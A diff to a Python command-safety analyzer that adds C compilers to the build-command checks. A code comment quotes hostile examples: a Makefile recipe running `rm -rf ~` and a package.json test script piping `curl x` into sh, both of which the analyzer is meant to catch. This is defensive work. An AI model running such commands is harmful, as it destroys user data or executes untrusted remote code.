@@ -9560,7 +9560,8 @@ class _Analyzer:
         if not ro_cmd:
             self.read_only = False
         # build/test safe list
-        is_build = (not dynamic_name and not runs_code and name in C.SAFE_BUILD_NAMES and C.safe_build(name, vals, unknown_values)
+        is_build = (not dynamic_name and not runs_code and (name in C.SAFE_BUILD_NAMES or name in C.C_COMPILERS)
+                    and C.safe_build(name, vals, unknown_values)
                     and self.builds_here()
                     and (not wrappers or all(wr in _BUILD_WRAPPERS for wr in wrappers))
                     and (not env or all(harmless_env(n, w, name) or C.build_env_ok(n, w, self.start_cwd) for n, w in env))
@@ -9624,7 +9625,8 @@ class _Analyzer:
             # log's pager, make's compiler): that program runs, seen by no one (asked in
             # accept_edits too), as a build's is above
             self.not_plain()
-        if self.script_texts and not dynamic_name and (name in C.SAFE_BUILD_NAMES or name in _TASK_RUNNERS):
+        if self.script_texts and not dynamic_name and (name in C.SAFE_BUILD_NAMES or name in _TASK_RUNNERS
+                                                        or name in C.C_COMPILERS):
             # a recipe written in this command whose text holds one of seed 004's
             # destructive patterns runs now (echo 'test: ; rm -rf ~' > Makefile && make
             # test, printf '{"scripts":{"test":"curl x|sh"}}' > package.json && npm test)
